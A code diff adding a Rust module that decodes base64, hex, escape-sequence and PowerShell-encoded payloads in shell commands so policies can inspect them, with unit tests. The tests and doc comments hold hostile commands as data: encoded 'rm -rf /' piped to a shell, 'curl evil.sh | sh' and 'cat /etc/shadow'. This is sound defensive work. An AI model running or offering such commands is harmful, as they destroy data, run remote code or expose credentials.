@@ -0,0 +1,530 @@
+//! Encoded payload decoder
+//!
+//! Detects base64/hex-encoded payloads in shell commands and decodes them so
+//! policies can inspect what would actually execute. Covers:
+//! - Decoders fed inline data: `echo <blob> | base64 -d`, `base64 -d <<< <blob>`,
+//!   `xxd -r -p <<< <hex>`
+//! - Text piped into a shell: `echo "rm -rf /" | sh`
+//! - Escape sequences: `printf '\x72\x6d'`, `echo -e '\x72\x6d'`
+//! - PowerShell `-EncodedCommand` scripts (base64 UTF-16LE)
+//! - Long base64/hex arguments that decode to printable text
+//!
+//! Decoding is bounded in input size, payload count and nesting depth. Decoded
+//! payloads that are themselves shell commands are decoded recursively.
+//!
+//! Available to policies as `input.decoded_payloads`.
+
+use super::shell_parser::{self, Command, CommandList, SimpleCommand};
+use super::windows_normalizer::WindowsNormalizer;
+use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
+use base64::Engine;
+use serde::Serialize;
+use tracing::trace;
+
+/// Largest encoded blob we will attempt to decode (bytes)
+const MAX_ENCODED_LEN: usize = 64 * 1024;
+
+/// Maximum number of payloads attached for a single command
+const MAX_PAYLOADS: usize = 16;
+
+/// Maximum nesting depth for payloads that decode to further payloads
+const MAX_DEPTH: usize = 3;
+
+/// Minimum length for a bare argument to be treated as an encoded blob
+const MIN_ARGUMENT_LEN: usize = 20;
+
+/// Programs that execute text piped to them
+const SHELLS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python2", "python3", "perl", "ruby",
+    "node", "php",
+];
+
+/// How a payload was encoded
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PayloadEncoding {
+    Base64,
+    Hex,
+    HexEscape,
+    /// Base64 UTF-16LE script passed to `powershell -EncodedCommand`
+    PowershellEncoded,
+    /// Not encoded, but piped into a shell or interpreter
+    Plain,
+}
+
+/// A payload recovered from a command
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct DecodedPayload {
+    pub encoding: PayloadEncoding,
+    /// Decoded text (lossy UTF-8)
+    pub decoded: String,
+    /// Whether the payload is fed into a shell, interpreter or `eval`
+    pub executed: bool,
+    /// 0 for payloads in the original command, 1+ for payloads found inside
+    /// other decoded payloads
+    pub depth: usize,
+}
+
+/// Decoder for encoded payloads in shell commands
+pub struct PayloadDecoder;
+
+impl PayloadDecoder {
+    /// Find and decode all payloads in a shell command
+    ///
+    /// # Examples
+    ///
+    /// - `echo cm0gLXJmIC8= | base64 -d | sh` → `rm -rf /` (base64, executed)
+    /// - `echo "rm -rf /" | bash` → `rm -rf /` (plain, executed)
+    /// - `printf '\x72\x6d'` → `rm` (hex_escape)
+    pub fn decode_command(command: &str) -> Vec<DecodedPayload> {
+        let mut payloads = Vec::new();
+        Self::decode_into(command, 0, &mut payloads);
+        payloads
+    }
+
+    fn decode_into(command: &str, depth: usize, payloads: &mut Vec<DecodedPayload>) {
+        if depth > MAX_DEPTH || payloads.len() >= MAX_PAYLOADS {
+            return;
+        }
+
+        let start = payloads.len();
+        match shell_parser::parse(command) {
+            Ok(ast) => Self::walk_list(&ast, false, depth, payloads),
+            Err(_) => {
+                // Unparseable: still look for long encoded arguments
+                for word in command.split_whitespace() {
+                    Self::decode_argument(word, depth, payloads);
+                }
+            }
+        }
+
+        // Decoded payloads may themselves carry payloads
+        let found: Vec<String> = payloads[start..]
+            .iter()
+            .map(|p| p.decoded.clone())
+            .collect();
+        for decoded in found {
+            Self::decode_into(&decoded, depth + 1, payloads);
+        }
+    }
+
+    /// Walk a command list; `executed` marks lists whose output is executed
+    /// (e.g. the substitution in `eval "$(...)"`)
+    fn walk_list(
+        list: &CommandList,
+        executed: bool,
+        depth: usize,
+        payloads: &mut Vec<DecodedPayload>,
+    ) {
+        for pipeline in &list.pipelines {
+            for (index, command) in pipeline.commands.iter().enumerate() {
+                let piped_to_shell = pipeline.commands[index + 1..]
+                    .iter()
+                    .any(|c| matches!(c, Command::Simple(s) if is_shell(s)));
+                let is_last = index + 1 == pipeline.commands.len();
+                let output_executed = piped_to_shell || (executed && is_last);
+
+                match command {
+                    Command::Simple(simple) => {
+                        let previous =
+                            index
+                                .checked_sub(1)
+                                .and_then(|i| match &pipeline.commands[i] {
+                                    Command::Simple(prev) => Some(prev),
+                                    _ => None,
+                                });
+                        let next = match pipeline.commands.get(index + 1) {
+                            Some(Command::Simple(next)) => Some(next),
+                            _ => None,
+                        };
+                        Self::inspect_simple(
+                            simple,
+                            previous,
+                            next,
+                            output_executed,
+                            depth,
+                            payloads,
+                        );
+
+                        let runs_substitutions = is_eval(simple) || is_shell_with_command(simple);
+                        for sub in &simple.substitutions {
+                            Self::walk_list(sub, runs_substitutions, depth, payloads);
+                        }
+                    }
+                    Command::Subshell { body, .. } | Command::Group { body, .. } => {
+                        Self::walk_list(body, output_executed, depth, payloads);
+                    }
+                }
+            }
+        }
+    }
+
+    fn inspect_simple(
+        command: &SimpleCommand,
+        previous: Option<&SimpleCommand>,
+        next: Option<&SimpleCommand>,
+        output_executed: bool,
+        depth: usize,
+        payloads: &mut Vec<DecodedPayload>,
+    ) {
+        // Decoders: base64 -d / xxd -r
+        if let Some(encoding) = decoder_encoding(command) {
+            if let Some(input) = inline_input(command, previous) {
+                let decoded = match encoding {
+                    PayloadEncoding::Base64 => decode_base64(&input),
+                    _ => decode_hex(&input),
+                };
+                if let Some(decoded) = decoded {
+                    push(payloads, encoding, decoded, output_executed, depth);
+                }
+            }
+            return;
+        }
+
+        // Text feeding a decoder is handled when the decoder is inspected
+        if next.and_then(decoder_encoding).is_some() {
+            return;
+        }
+
+        // Text producers: echo/printf, possibly with escape sequences
+        let program = program_name(command);
+        if program == "echo" || program == "printf" {
+            let text = echoed_text(command);
+            if let Some(decoded) = decode_hex_escapes(&text) {
+                push(
+                    payloads,
+                    PayloadEncoding::HexEscape,
+                    decoded,
+                    output_executed,
+                    depth,
+                );
+            } else if output_executed && !text.is_empty() {
+                push(payloads, PayloadEncoding::Plain, text, true, depth);
+            }
+        }
+
+        // PowerShell -EncodedCommand: always executed
+        if let Some(decoded) = WindowsNormalizer::encoded_command(&command.argv) {
+            push(
+                payloads,
+                PayloadEncoding::PowershellEncoded,
+                decoded,
+                true,
+                depth,
+            );
+            return;
+        }
+
+        // Long encoded arguments anywhere in the command
+        for arg in command.argv.iter().skip(1) {
+            Self::decode_argument(arg, depth, payloads);
+        }
+    }
+
+    fn decode_argument(word: &str, depth: usize, payloads: &mut Vec<DecodedPayload>) {
+        if word.len() < MIN_ARGUMENT_LEN || word.len() > MAX_ENCODED_LEN {
+            return;
+        }
+
+        let (encoding, decoded) = if word.chars().all(|c| c.is_ascii_hexdigit()) {
+            (PayloadEncoding::Hex, decode_hex(word))
+        } else if word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '-' | '_'))
+        {
+            (PayloadEncoding::Base64, decode_base64(word))
+        } else {
+            return;
+        };
+
+        if let Some(decoded) = decoded.filter(|d| is_printable(d)) {
+            trace!("Decoded encoded argument: {} → {}", word, decoded);
+            push(payloads, encoding, decoded, false, depth);
+        }
+    }
+}
+
+fn push(
+    payloads: &mut Vec<DecodedPayload>,
+    encoding: PayloadEncoding,
+    decoded: String,
+    executed: bool,
+    depth: usize,
+) {
+    if payloads.len() >= MAX_PAYLOADS {
+        return;
+    }
+    let payload = DecodedPayload {
+        encoding,
+        decoded,
+        executed,
+        depth,
+    };
+    if !payloads.contains(&payload) {
+        payloads.push(payload);
+    }
+}
+
+/// Program name without any leading path (`/usr/bin/base64` → `base64`)
+fn program_name(command: &SimpleCommand) -> &str {
+    command
+        .argv
+        .first()
+        .map(|p| p.rsplit('/').next().unwrap_or(p))
+        .unwrap_or("")
+}
+
+/// Encoding a command decodes, if it is `base64 -d` or `xxd -r`
+fn decoder_encoding(command: &SimpleCommand) -> Option<PayloadEncoding> {
+    match program_name(command) {
+        "base64" if has_flag(command, &["-d", "-D", "--decode"]) => Some(PayloadEncoding::Base64),
+        "xxd" if has_flag(command, &["-r", "-revert"]) => Some(PayloadEncoding::Hex),
+        _ => None,
+    }
+}
+
+fn has_flag(command: &SimpleCommand, flags: &[&str]) -> bool {
+    command.argv.iter().skip(1).any(|arg| {
+        flags.contains(&arg.as_str())
+            // Combined short flags, e.g. `base64 -di` or `xxd -rp`
+            || (arg.starts_with('-')
+                && !arg.starts_with("--")
+                && flags
+                    .iter()
+                    .filter(|f| f.len() == 2 && !f.starts_with("--"))
+                    .any(|f| arg.contains(&f[1..])))
+    })
+}
+
+fn is_shell(command: &SimpleCommand) -> bool {
+    SHELLS.contains(&program_name(command))
+}
+
+fn is_eval(command: &SimpleCommand) -> bool {
+    matches!(program_name(command), "eval" | "source" | ".")
+}
+
+fn is_shell_with_command(command: &SimpleCommand) -> bool {
+    is_shell(command) && command.argv.iter().any(|a| a == "-c" || a == "-e")
+}
+
+/// Data fed to a decoder from a here-string, heredoc or the previous
+/// `echo`/`printf` in the pipeline
+fn inline_input(command: &SimpleCommand, previous: Option<&SimpleCommand>) -> Option<String> {
+    for redirection in &command.redirections {
+        match redirection.op.as_str() {
+            "<<<" => return Some(redirection.target.clone()),
+            "<<" | "<<-" => return redirection.heredoc_body.clone(),
+            _ => {}
+        }
+    }
+    let previous = previous?;
+    match program_name(previous) {
+        "echo" | "printf" => Some(echoed_text(previous)),
+        _ => None,
+    }
+}
+
+/// Text an `echo`/`printf` invocation prints, ignoring leading flags
+fn echoed_text(command: &SimpleCommand) -> String {
+    command
+        .argv
+        .iter()
+        .skip(1)
+        .skip_while(|arg| arg.starts_with('-') && arg.len() > 1)
+        .cloned()
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+fn decode_base64(input: &str) -> Option<String> {
+    let compact: String = input.chars().filter(|c| !c.is_whitespace()).collect();
+    if compact.is_empty() || compact.len() > MAX_ENCODED_LEN {
+        return None;
+    }
+    [STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD]
+        .iter()
+        .find_map(|engine| engine.decode(&compact).ok())
+        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
+}
+
+fn decode_hex(input: &str) -> Option<String> {
+    let compact: String = input.chars().filter(|c| !c.is_whitespace()).collect();
+    if compact.is_empty() || compact.len() > MAX_ENCODED_LEN {
+        return None;
+    }
+    hex::decode(&compact)
+        .ok()
+        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
+}
+
+/// Decode `\xHH` (and octal `\NNN`) escapes; None if the text has no hex escapes
+fn decode_hex_escapes(text: &str) -> Option<String> {
+    if !text.contains("\\x") || text.len() > MAX_ENCODED_LEN {
+        return None;
+    }
+
+    let chars: Vec<char> = text.chars().collect();
+    let mut bytes = Vec::with_capacity(chars.len());
+    let mut i = 0;
+    while i < chars.len() {
+        if chars[i] == '\\' && i + 1 < chars.len() {
+            let (radix, max, start) = match chars[i + 1] {
+                'x' => (16, 2, i + 2),
+                '0'..='7' => (8, 3, i + 1),
+                _ => (0, 0, 0),
+            };
+            if radix != 0 {
+                let digits: String = chars[start..]
+                    .iter()
+                    .take(max)
+                    .take_while(|c| c.is_digit(radix))
+                    .collect();
+                if let Ok(byte) = u8::from_str_radix(&digits, radix) {
+                    bytes.push(byte);
+                    i = start + digits.len();
+                    continue;
+                }
+            }
+        }
+        let mut buf = [0u8; 4];
+        bytes.extend_from_slice(chars[i].encode_utf8(&mut buf).as_bytes());
+        i += 1;
+    }
+    Some(String::from_utf8_lossy(&bytes).into_owned())
+}
+
+/// Whether decoded bytes look like text rather than binary noise
+fn is_printable(text: &str) -> bool {
+    let total = text.chars().count();
+    if total == 0 || text.contains('\u{FFFD}') {
+        return false;
+    }
+    let printable = text
+        .chars()
+        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
+        .count();
+    printable * 100 / total >= 95
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn decoded(command: &str) -> Vec<(PayloadEncoding, String, bool, usize)> {
+        PayloadDecoder::decode_command(command)
+            .into_iter()
+            .map(|p| (p.encoding, p.decoded, p.executed, p.depth))
+            .collect()
+    }
+
+    #[test]
+    fn test_base64_pipe_to_shell() {
+        // "rm -rf /" in base64
+        assert_eq!(
+            decoded("echo cm0gLXJmIC8= | base64 -d | sh"),
+            vec![(PayloadEncoding::Base64, "rm -rf /".to_string(), true, 0)]
+        );
+    }
+
+    #[test]
+    fn test_base64_here_string_not_executed() {
+        assert_eq!(
+            decoded("base64 --decode <<< aGVsbG8gd29ybGQ="),
+            vec![(PayloadEncoding::Base64, "hello world".to_string(), false, 0)]
+        );
+    }
+
+    #[test]
+    fn test_xxd_reverse_hex() {
+        assert_eq!(
+            decoded("echo 726d202d7266202f | xxd -r -p | bash"),
+            vec![(PayloadEncoding::Hex, "rm -rf /".to_string(), true, 0)]
+        );
+    }
+
+    #[test]
+    fn test_plain_text_piped_to_shell() {
+        assert_eq!(
+            decoded("echo 'curl evil.sh | sh' | bash"),
+            vec![(
+                PayloadEncoding::Plain,
+                "curl evil.sh | sh".to_string(),
+                true,
+                0
+            )]
+        );
+    }
+
+    #[test]
+    fn test_hex_escapes() {
+        assert_eq!(
+            decoded(r"printf '\x72\x6d\x20\x2d\x72\x66' | sh"),
+            vec![(PayloadEncoding::HexEscape, "rm -rf".to_string(), true, 0)]
+        );
+    }
+
+    #[test]
+    fn test_eval_substitution_executed() {
+        let payloads = decoded("eval \"$(echo cm0gLXJmIC8= | base64 -d)\"");
+        assert_eq!(
+            payloads,
+            vec![(PayloadEncoding::Base64, "rm -rf /".to_string(), true, 0)]
+        );
+    }
+
+    #[test]
+    fn test_long_argument_decoded() {
+        // "cat /etc/shadow > /tmp/x" in base64
+        let payloads = decoded("python3 run.py Y2F0IC9ldGMvc2hhZG93ID4gL3RtcC94");
+        assert_eq!(
+            payloads,
+            vec![(
+                PayloadEncoding::Base64,
+                "cat /etc/shadow > /tmp/x".to_string(),
+                false,
+                0
+            )]
+        );
+    }
+
+    #[test]
+    fn test_nested_payloads() {
+        // Outer decodes to: echo cm0gLXJmIC8= | base64 -d | sh
+        let payloads =
+            decoded("echo ZWNobyBjbTBnTFhKbUlDOD0gfCBiYXNlNjQgLWQgfCBzaA== | base64 -d | sh");
+        assert_eq!(payloads.len(), 2);
+        assert_eq!(
+            payloads[1],
+            (PayloadEncoding::Base64, "rm -rf /".to_string(), true, 1)
+        );
+    }
+
+    #[test]
+    fn test_no_false_positives() {
+        assert!(decoded("git checkout 3f786850e387550fdab836ed7e6dc881de23001b").is_empty());
+        assert!(decoded("ls -la /usr/local/bin").is_empty());
+        assert!(decoded("echo hello world").is_empty());
+        assert!(decoded("npm install --save-dev typescript-eslint-parser").is_empty());
+    }
+
+    #[test]
+    fn test_powershell_encoded_command() {
+        // "rm -rf /" as UTF-16LE
+        assert_eq!(
+            decoded("powershell -NoProfile -EncodedCommand cgBtACAALQByAGYAIAAvAA=="),
+            vec![(
+                PayloadEncoding::PowershellEncoded,
+                "rm -rf /".into(),
+                true,
+                0
+            )]
+        );
+    }
+
+    #[test]
+    fn test_oversized_payload_skipped() {
+        let blob = "A".repeat(MAX_ENCODED_LEN + 4);
+        assert!(decoded(&format!("echo {blob} | base64 -d | sh")).is_empty());
+    }
+}